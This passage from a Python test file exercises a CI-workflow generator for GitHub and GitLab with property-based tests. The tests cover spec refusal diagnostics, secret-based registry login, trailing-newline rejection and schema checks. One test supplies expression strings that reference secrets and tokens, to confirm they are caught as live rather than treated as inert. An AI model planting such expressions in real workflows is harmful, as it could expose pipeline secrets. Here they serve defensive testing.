    # Ruby's fnmatch with FNM_PATHNAME, approximated segment by segment.
    return {f: any(fnmatchcase(f, p.replace("**/*", "*")) for p in paths) for f in files}


def test_what_users_write_is_refused_where_written_or_rendered_right(tmp_path):
    """No input repair: each spelling is refused with its located id, or renders and passes every checker."""
    from generator.diagnostics import SpecError
    from generator.pipeline import render_outputs

    outputs: dict[str, list[str]] = {"github": [], "gitlab": []}
    counts = {"refused": 0, "rendered": 0}

    @settings(SETTINGS, max_examples=max(EXAMPLES, 150))  # cheap: a few milliseconds an example
    @given(written_specs())
    def one(case):
        text, expected, images = case
        number = sum(counts.values())
        spec_file = tmp_path / f"spec{number}.yml"
        spec_file.write_text(text)
        try:
            rendered = render_outputs(spec_file)
        except SpecError as error:
            counts["refused"] += 1
            got = {(d.code, d.path) for d in error.diagnostics}
            assert got == expected, text
            lines = text.splitlines()
            for diagnostic in error.diagnostics:
                assert 1 <= diagnostic.line <= len(lines) and diagnostic.file == str(spec_file)
                if diagnostic.code == "GC011":
                    assert diagnostic.message.endswith("write 45")
                    assert re.search(r"[0-9.eE+]+", lines[diagnostic.line - 1][diagnostic.column - 1:])
            return
        counts["rendered"] += 1
        assert expected == set(), text
        for platform, _, output in rendered:
            body = split(output)[1]
            assert canonical(body) == body
            for image in images:
                if image["paths"]:
                    decided = _changed_files_build(output, platform, image["id"])
                    assert decided == {"services/cart/main.go": True, "services/cart/a/b.go": True,
                                       "services/cartography/x": False, "README.md": False}, (platform, text)
                if image["name"].startswith("platform"):
                    _assert_platform_login(output, platform, image["id"], image["name"][len("platform"):])
            out = tmp_path / f"out{number}-{platform}.yml"
            out.write_text(output)
            outputs[platform].append(str(out))

    one()
    assert counts["refused"] and counts["rendered"], counts
    _judge(outputs, tmp_path)


def _assert_platform_login(text: str, platform: str, ident: str, path: str) -> None:
    """The platform's registry with secrets logs in to the platform's registry, with those secrets."""
    doc = _yaml(text)
    if platform == "github":
        logins = [step["with"] for step in doc["jobs"][f"publish-{ident}"]["steps"] if "login-action" in step.get("uses", "")]
        assert {"registry": "ghcr.io", "username": "${{ secrets.REG_USER }}", "password": "${{ secrets.REG_PASS }}"} in logins
        (push,) = [step["run"] for step in doc["jobs"][f"publish-{ident}"]["steps"] if step.get("name") == f"Push {ident}"]
        assert f'printf \'%s\\n\' "$platform_repository{path}" > "$repositories"' in push
        return
    script = "\n".join(doc[f"publish-{ident}"]["script"])
    assert 'printenv REG_PASS | docker login --username "$(printenv REG_USER)" --password-stdin "$CI_REGISTRY"' in script
    assert "docker.io" not in script and "index.docker.io" not in script
    assert f'printf \'%s\\n\' "$CI_REGISTRY_IMAGE{path}" > gen-ci-repositories.txt' in script


def test_the_evaluator_catches_live_expressions():
    assert github_evaluate("a ${{ '${{' }} b") == "a ${{ b"
    for live in ("${{ github.token }}", "x ${{ 'a' }}${{ secrets.X }}"):
        try:
            github_evaluate(live)
        except AssertionError:
            continue
        raise AssertionError(f"{live!r} passed as inert")


NEWLINE_PATHS = [
    ("name",), ("targets", "github"), ("targets", "gitlab"), ("images", 0, "repository"), ("images", 0, "id"),
    ("images", 0, "context"), ("images", 0, "dockerfile"), ("runners", "github", 0), ("runners", "gitlab", 0),
    ("triggers", "branches", 0), ("triggers", "tags", 0), ("push", "branches", 0), ("push", "tags", 0),
]


def _get(node, path):
    for part in path:
        if isinstance(node, dict) and part in node or isinstance(node, list) and isinstance(part, int) and part < len(node):
            node = node[part]
        else:
            return None
    return node


@st.composite
def specs_with_a_trailing_newline(draw):
    spec = repair(draw(from_schema(copy.deepcopy(spec_schema()))))
    spec["images"][0].setdefault("context", ".")
    spec["name"] = "acme"  # JSON escapes astral characters as surrogate pairs, which gen-ci refuses on their own
    present = [path for path in NEWLINE_PATHS if isinstance(_get(spec, path), str)]
    path = draw(st.sampled_from(present))
    _get(spec, path[:-1])[path[-1]] += "\n"
    return spec, path


def test_a_trailing_newline_in_any_checked_field_is_refused(tmp_path):
    from generator.diagnostics import json_path
    from tests.conftest import invoke

    @SETTINGS
    @given(specs_with_a_trailing_newline())
    def refuse_one(case):
        spec, path = case
        spec_file = tmp_path / "spec.yml"
        spec_file.write_text(yaml_safe_json(spec), encoding="utf-8")
        result = invoke("render", str(spec_file), "--target", next(iter(spec["targets"])))
        assert result.exit_code == 2, (path, result.stdout[:300])
        assert f"error[GC013]: {json_path(path)}:" in result.stderr, result.stderr

    refuse_one()


@SETTINGS
@given(st.data())
def test_the_quick_schema_check_never_passes_what_jsonschema_refuses(data):
    """Schema-valid specs pass both; mutated ones are refused by the quick check whenever jsonschema refuses them."""
    from jsonschema import Draft202012Validator

    from generator.schemacheck import quickly_valid

    schema = spec_schema()
    spec = data.draw(from_schema(copy.deepcopy(schema)))
    assert quickly_valid(spec, schema) == Draft202012Validator(schema).is_valid(spec)
    mutated = copy.deepcopy(spec)
    path = data.draw(st.sampled_from(["version", "name", "images", "docker", "scan", "push", "runners", "unknown"]))
    mutated[path] = data.draw(st.one_of(st.none(), st.booleans(), st.integers(), st.text(max_size=5), st.lists(st.integers(), max_size=2), st.dictionaries(st.text(max_size=3), st.integers(), max_size=2)))
    if not Draft202012Validator(schema).is_valid(mutated):
        assert not quickly_valid(mutated, schema)
